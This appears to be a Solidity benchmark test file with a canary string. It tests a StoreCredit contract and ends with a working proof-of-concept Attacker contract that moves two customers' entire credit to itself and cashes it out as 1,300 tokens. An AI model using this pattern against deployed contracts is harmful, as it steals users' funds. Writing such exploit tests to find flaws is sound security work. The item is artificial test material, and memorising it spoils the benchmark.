// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./StoreCredit.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-826c9d17-9102-4113-9414-51db56c02bd6

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Money is ERC20("Money", "MON") {
    address private _maker = msg.sender;

    function mint(address account, uint256 amount) external {
        require(msg.sender == _maker, "Money: not the maker");
        _mint(account, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CASHIER = address(0xCA5);

    Money public money;
    StoreCredit private store;
    Attacker private mallory;

    function setUp() public {
        money = new Money();
        store = new StoreCredit(money, address(this));
        store.grantRole(store.CASHIER_ROLE(), CASHIER);
        fill(ANA);
        fill(BEN);
        vm.prank(ANA);
        store.buy(ANA, 800e18);
        vm.prank(BEN);
        store.buy(BEN, 500e18);
        mallory = new Attacker(store);
    }

    function fill(address customer) private {
        money.mint(customer, 1_000e18);
        vm.prank(customer);
        money.approve(address(store), 1_000e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        store.buy(BEN, 100e18);
        store.move(ANA, BEN, 200e18);
        require(store.creditOf(ANA) == 600e18 && store.creditOf(BEN) == 800e18, "moved");
        store.giveBack(100e18);
        require(money.balanceOf(ANA) == 200e18 && store.creditOf(ANA) == 500e18, "given back");
        vm.stopPrank();
        vm.startPrank(CASHIER);
        store.move(BEN, ANA, 50e18);
        store.charge(BEN, 250e18);
        vm.stopPrank();
        require(store.creditOf(BEN) == 500e18 && store.takings() == 250e18, "charged");
        store.collect(address(this));
        require(money.balanceOf(address(this)) == 250e18 && store.takings() == 0, "collected");
        store.revokeRole(store.CASHIER_ROLE(), CASHIER);
        store.renounceRole(bytes32(0), address(this));
    }

    function test_RefusesStrangers() public {
        bytes4 selector = IAccessControl.AccessControlUnauthorizedAccount.selector;
        bytes memory cashier = abi.encodeWithSelector(selector, BEN, store.CASHIER_ROLE());
        vm.startPrank(BEN);
        vm.expectRevert("StoreCredit: not allowed");
        store.move(ANA, CASHIER, 1);
        vm.expectRevert(cashier);
        store.charge(ANA, 1);
        vm.expectRevert(abi.encodeWithSelector(selector, BEN, bytes32(0)));
        store.collect(BEN);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert("StoreCredit: too little credit");
        store.move(ANA, BEN, 800e18 + 1);
        vm.expectRevert("StoreCredit: too little credit");
        store.giveBack(800e18 + 1);
        vm.stopPrank();
        vm.prank(CASHIER);
        vm.expectRevert("StoreCredit: too little credit");
        store.charge(ANA, 800e18 + 1);
    }

    function test_RefusesNobody() public {
        vm.expectRevert("StoreCredit: no admin");
        new StoreCredit(money, address(0));
        vm.expectRevert("StoreCredit: no receiver");
        store.collect(address(0));
        vm.startPrank(ANA);
        vm.expectRevert("StoreCredit: no customer");
        store.buy(address(0), 1);
        vm.expectRevert("StoreCredit: no customer");
        store.move(ANA, address(0), 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run(ANA, BEN);
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) == 1_300e18, "no gain");
    }

    function target() public view returns (address) {
        return address(store);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    StoreCredit private _store;

    constructor(StoreCredit store) {
        _store = store;
    }

    function run(address first, address second) external {
        _store.move(first, address(this), _store.creditOf(first));
        _store.move(second, address(this), _store.creditOf(second));
        _store.giveBack(_store.creditOf(address(this)));
    }
}
